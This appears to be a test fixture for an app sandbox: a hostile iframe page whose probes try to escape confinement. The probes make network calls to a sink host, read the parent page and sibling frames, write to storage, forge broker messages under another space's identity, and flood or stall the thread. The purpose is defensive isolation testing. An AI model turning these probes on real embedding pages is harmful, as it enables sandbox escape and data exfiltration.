// What a hostile UI space tries. Each probe says `leaked`, `confined`, or `asked` where only others can tell.
"use strict";
let port = null;
const heard = [];
addEventListener("message", (event) => {
  if (event.ports[0]) {
    [port] = event.ports;
    port.onmessage = (message) => heard.push(message.data);
  }
});
parent.postMessage({ space: 1 }, "*");

const soon = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve("confined"), 1500))]);
const tries = async (attempt) => {
  try {
    return (await soon(attempt())) ?? "leaked";
  } catch {
    return "confined";
  }
};
const siblings = () => [...Array(parent.length).keys()].map((at) => parent[at]).filter((other) => other !== self);
const fills = (tag, attributes) => {
  const element = Object.assign(document.createElement(tag), attributes);
  document.body.append(element);
  return element;
};

const probes = {
  // Network.
  fetch: ({ sink }) => tries(async () => void (await fetch(`${sink}/fetch`, { mode: "no-cors" }))),
  image: ({ sink }) => (fills("img", { src: `${sink}/image` }), "asked"),
  style: ({ sink }) => (fills("link", { rel: "stylesheet", href: `${sink}/style` }), "asked"),
  script: ({ sink }) => (fills("script", { src: `${sink}/script` }), "asked"),
  socket: ({ sink }) => tries(() => new Promise((resolve, reject) => {
    const socket = new WebSocket(`${sink.replace("http", "ws")}/socket`);
    socket.onopen = () => resolve();
    socket.onerror = reject;
  })).then(() => "asked"),
  events: ({ sink }) => (new EventSource(`${sink}/events`), "asked"),
  beacon: ({ sink }) => (navigator.sendBeacon(`${sink}/beacon`, "x"), "asked"),
  ping: ({ sink }) => {
    fills("a", { href: "#x", ping: `${sink}/ping` }).click();
    return "asked";
  },
  calls: ({ udp }) => tries(async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    return "asked";
  }),
  prefetch: ({ sink }) => (fills("link", { rel: "prefetch", href: `${sink}/prefetch` }), "asked"),
  state: ({ desk }) => tries(async () => {
    const answer = await fetch(`${desk}/api/state`, { credentials: "include" });
    return (await answer.text()).includes("applications") ? "leaked" : "confined";
  }),
  // The desk's page.
  parent: () => tries(() => void parent.document.title.length),
  top: ({ sink }) => tries(() => {
    top.location = `${sink}/top`;
    return "asked";
  }),
  popup: ({ sink }) => tries(() => (open(`${sink}/popup`) ? "leaked" : "confined")),
  // Storage.
  storage: () => tries(() => void localStorage.setItem("a", "b")),
  database: () => tries(() => new Promise((resolve, reject) => {
    const request = indexedDB.open("a");
    request.onsuccess = () => resolve();
    request.onerror = reject;
  })),
  cookie: () => tries(() => {
    document.cookie = "a=b";
    return document.cookie.includes("a=b") ? "leaked" : "confined";
  }),
  caches: () => tries(async () => void (await caches.open("a"))),
  // Forms and downloads.
  form: ({ sink }) => tries(() => {
    const name = "target";
    fills("iframe", { name });
    fills("form", { action: `${sink}/form`, method: "POST", target: name }).submit();
    return "asked";
  }),
  download: ({ sink }) => tries(() => {
    fills("a", { href: URL.createObjectURL(new Blob(["x"])), download: "stolen.txt" }).click();
    return "asked";
  }),
  // Workers and frames.
  worker: () => tries(() => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = () => resolve();
    worker.onerror = reject;
  })),
  service: () => tries(async () => void (await navigator.serviceWorker.register("hostile.js"))),
  nested: ({ sink }) => (fills("iframe", { src: `${sink}/nested` }), "asked"),
  sibling: () => tries(() => {
    for (const other of siblings()) if (other.document) return "leaked";
    return "confined";
  }),
  turn: ({ sink }) => tries(() => {
    for (const other of siblings()) other.location = `${sink}/turn`;
    return "asked";
  }),
  // Code that is not in a file.
  eval: () => tries(() => (Function("return 1")() === 1 ? "leaked" : "confined")),
  inline: () => {
    fills("script", { textContent: "self.inlined = true" });
    return self.inlined ? "leaked" : "confined";
  },
  // What belongs to the person.
  clipboard: () => tries(async () => void (await navigator.clipboard.writeText("x"))),
  place: () => tries(() => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve(), reject))),
  camera: () => tries(async () => void (await navigator.mediaDevices.getUserMedia({ video: true }))),
  screen: () => tries(async () => void (await document.documentElement.requestFullscreen())),
  // The broker: another space's name, another space's port.
  forge: async () => {
    const stolen = { frame: "0".repeat(32), app: "shop", space: "victim" };
    parent.postMessage({ ...stolen, op: "emit", to: "control", body: "forged", asks: false, call: 1 }, "*");
    port?.postMessage({ ...stolen, op: "emit", to: "control", body: "by hostile", asks: false, call: 2 });
    for (const op of ["open", "close", "restart", "__proto__", ["emit"], null]) port?.postMessage({ ...stolen, op, call: 3 });
    for (const odd of [null, 1, "x", [], { call: "x" }, { call: 4, op: "emit", to: {}, body: {} }]) port?.postMessage(odd);
    return "asked";
  },
  port: () => tries(() => new Promise((resolve) => {
    for (const other of siblings()) {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = () => resolve();
      other.postMessage({ space: 1 }, "*", [port2]);
    }
  })),
  // Keeps the thread for three seconds.
  busy: () => {
    const begin = Date.now();
    while (Date.now() < begin + 3000);
    return { begin, end: Date.now() };
  },
  flood: () => {
    for (let at = 0; at < 5000; at += 1) port?.postMessage({ call: at, op: "log", text: "flood" });
    return "asked";
  },
  self: ({ sink }) => {
    location = `${sink}/self`;
    return "asked";
  },
};
self.probe = (name, about) => probes[name](about);
document.documentElement.dataset.ready = "yes";
